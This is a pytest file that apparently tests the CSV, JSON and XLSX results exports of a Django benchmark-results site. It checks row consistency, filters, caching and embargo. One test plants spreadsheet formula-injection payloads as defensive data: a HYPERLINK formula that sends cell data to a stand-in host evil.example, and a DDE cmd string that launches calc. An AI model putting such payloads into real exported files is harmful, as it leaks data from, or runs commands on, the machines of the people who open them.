"""The export formats (results.exports): CSV, JSON and XLSX hold the same rows and columns,
of the whole round or of any filtered view, with formulas neutralised in both sheets."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.core.management import call_command
from django.utils import timezone
from openpyxl import load_workbook

from results import exports
from results.exports_safety import spreadsheet_cell
from results.models import Round, System
from results.selectors import EXPORT_COLUMNS, csv_value

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def read_back(fmt: str, data: bytes) -> list[dict[str, str]]:
    """Rows as text cells: CSV as written; JSON and XLSX values as the CSV writes them."""
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(data.decode())))
    if fmt == "json":
        rows = []
        for row in json.loads(data)["results"]:
            cells = {}
            for c in EXPORT_COLUMNS:
                value = row[c]
                if c == "measurements":
                    value = "; ".join(f"{k}={m['value']!r} {m['unit']}" for k, m in value.items())
                cells[c] = (
                    csv_value(value)
                    if value is None or isinstance(value, bool | int | float)
                    else spreadsheet_cell(value)
                )
            rows.append(cells)
        return rows
    workbook = load_workbook(io.BytesIO(data), read_only=True)
    sheet = workbook["results"].iter_rows(values_only=True)
    header = next(sheet)
    rows = [{str(h): csv_value(v) for h, v in zip(header, row, strict=True)} for row in sheet]
    workbook.close()
    return rows


NUMBERS = ("value", "accuracy", "power", "processor_count", "accelerator_count")


def comparable(rows):
    # Numbers as numbers: JSON reads accuracy "75.920" as 75.92, XLSX reads 206499.0 as 206499.
    return [r | {c: float(r[c]) if r[c] else None for c in NUMBERS} for r in rows]


def download(client, fmt, **query):
    response = client.get(f"/v0.7/results.{fmt}", query)
    assert response.status_code == 200, response
    return response, read_back(fmt, body(response))


def test_every_format_holds_the_same_rows_and_columns(client, v07):
    found = {}
    for fmt in exports.FORMATS:
        response, rows = download(client, fmt)
        assert response["Content-Type"] == exports.FORMATS[fmt].content_type
        assert f'filename="mlperf-inference-v0.7-results.{fmt}"' in response["Content-Disposition"]
        assert list(rows[0]) == list(EXPORT_COLUMNS) and len(rows) == 1205
        found[fmt] = comparable(rows)
    assert found["csv"] == found["json"] == found["xlsx"]
    assert exports.FORMATS["xlsx"].content_type == XLSX


def test_xlsx_cells_are_typed(client, v07):
    response = client.get("/v0.7/results.xlsx")
    sheet = load_workbook(io.BytesIO(response.content), read_only=True)["results"]
    header, first = list(sheet.iter_rows(min_row=1, max_row=2, values_only=True))
    row = dict(zip(header, first, strict=True))
    assert isinstance(row["value"], float) and isinstance(row["inferred"], bool)
    assert row["round"] == "v0.7"


@pytest.mark.parametrize("fmt", list(exports.FORMATS))
def test_filtered_download_holds_only_the_filtered_results(client, v07, fmt):
    _, rows = download(client, fmt, submitter="atos")
    assert len(rows) == 4 and {r["submitter"] for r in rows} == {"Atos"}
    _, rows = download(client, fmt, benchmark="resnet", scenario="Offline")
    assert rows and {(r["benchmark"], r["scenario"]) for r in rows} == {("resnet", "Offline")}
    _, rows = download(client, fmt, division="open", benchmark="resnet")
    assert rows and {(r["division"], r["benchmark"]) for r in rows} == {("open", "resnet")}


def test_query_count_is_that_of_the_csv(client, v07, django_assert_num_queries):
    # The round, the filter's software choices, the results, measurements, keys, corrections.
    for fmt in exports.FORMATS:
        with django_assert_num_queries(6):
            body(client.get(f"/v0.7/results.{fmt}"))


def test_formulas_are_text_in_the_xlsx(client, v07):
    system = System.objects.filter(round=v07, submitter__slug="ivatech").first()
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    System.objects.filter(pk=system.pk).update(
        name=evil, software="@SUM(1+1)*cmd|' /C calc'!A0", notes="x"
    )
    data = client.get("/v0.7/results.xlsx").content
    sheet = load_workbook(io.BytesIO(data))["results"]  # not read-only: cell data types
    names = [row[7] for row in sheet.iter_rows(min_row=2)]
    mine = [cell for cell in names if str(cell.value).endswith('Click for details")')]
    assert mine and all(cell.value == "'" + evil and cell.data_type == "s" for cell in mine)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    texts = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    starts = {text[:1] for text in texts}
    assert not starts & {"=", "+", "@", "\t", "\r"}


def test_control_characters_do_not_break_the_xlsx(client, v07):
    system = System.objects.filter(round=v07, submitter__slug="ivatech").first()
    System.objects.filter(pk=system.pk).update(name="bad\x01name\x1b")
    rows = read_back("xlsx", client.get("/v0.7/results.xlsx").content)
    assert any(r["system_name"] == "badname" for r in rows)


def test_xlsx_bytes_are_the_same_each_time(client, v07):
    assert client.get("/v0.7/results.xlsx").content == client.get("/v0.7/results.xlsx").content


def test_command_writes_every_format(v07, tmp_path):
    for fmt in exports.FORMATS:
        path = tmp_path / f"out.{fmt}"
        call_command("export_results", round="v0.7", format=fmt, output=str(path))
        assert len(read_back(fmt, path.read_bytes())) == 1205


def test_embargoed_round_has_no_download_in_any_format(client, v07):
    Round.objects.filter(pk=v07.pk).update(published_at=timezone.now() + dt.timedelta(hours=1))
    for fmt in exports.FORMATS:
        assert client.get(f"/v0.7/results.{fmt}").status_code == 404


def test_whole_round_xlsx_is_kept_like_the_other_downloads(client, v07, settings):
    from results.cache import STATUS_HEADER

    settings.RESULTS_CACHE_TIMEOUT = 300
    first = client.get("/v0.7/results.xlsx")
    again = client.get("/v0.7/results.xlsx")
    assert (first[STATUS_HEADER], again[STATUS_HEADER]) == ("miss", "hit")
    assert first.content == again.content
    assert again["Content-Type"] == exports.FORMATS["xlsx"].content_type
    assert 'filename="mlperf-inference-v0.7-results.xlsx"' in again["Content-Disposition"]
    # A filtered download is not kept: it is made for the request.
    assert STATUS_HEADER not in client.get("/v0.7/results.xlsx", {"submitter": "atos"})
